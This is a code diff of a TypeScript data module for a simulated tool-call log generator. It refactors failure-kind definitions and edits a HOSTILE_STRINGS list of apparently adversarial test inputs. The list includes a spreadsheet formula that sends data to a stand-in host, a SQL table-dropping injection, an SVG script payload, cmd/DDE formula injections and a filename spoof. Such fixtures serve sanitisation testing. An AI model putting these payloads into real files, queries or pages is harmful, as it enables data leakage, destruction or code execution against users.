@@ -2,6 +2,7 @@
  * What the simulated world is made of: toolkits and their tools, the failure patterns real tool
  * calls hit, and the vendor's customers. Pure data; the generator turns it into logs.
  */
+import type { FailureKind } from '../core/failure-hints.ts';
 
 /** Shape of a tool's arguments and result; selects a payload generator in payloads.ts. */
 export type PayloadKind =
@@ -88,26 +89,8 @@ export const TOOLKIT_WEIGHTS: Readonly<Record<string, number>> = {
   composio: 3,
 };
 
-export type FailureKind =
-  | 'token_expired'
-  | 'missing_scopes'
-  | 'invalid_input'
-  | 'tool_not_found'
-  | 'no_connected_account'
-  | 'rate_limited'
-  | 'upstream_error'
-  | 'timeout';
-
-export const FAILURE_KINDS: readonly FailureKind[] = [
-  'token_expired',
-  'missing_scopes',
-  'invalid_input',
-  'tool_not_found',
-  'no_connected_account',
-  'rate_limited',
-  'upstream_error',
-  'timeout',
-];
+/** The failure patterns are core's (`core/failure-hints.ts`): one definition for hints, insights and the data set. */
+export { FAILURE_KINDS, type FailureKind } from '../core/failure-hints.ts';
 
 /** How often each failure pattern appears among failures (a typical mix). */
 export const FAILURE_WEIGHTS: Readonly<Record<FailureKind, number>> = {
@@ -248,8 +231,8 @@ export const HOSTILE_STRINGS: readonly string[] = [
   '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
   "'; DROP TABLE logs; --",
   '<svg/onload=alert(1)>',
-  '+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '-2+3',
   '\u202Egnp.exe',
 ];
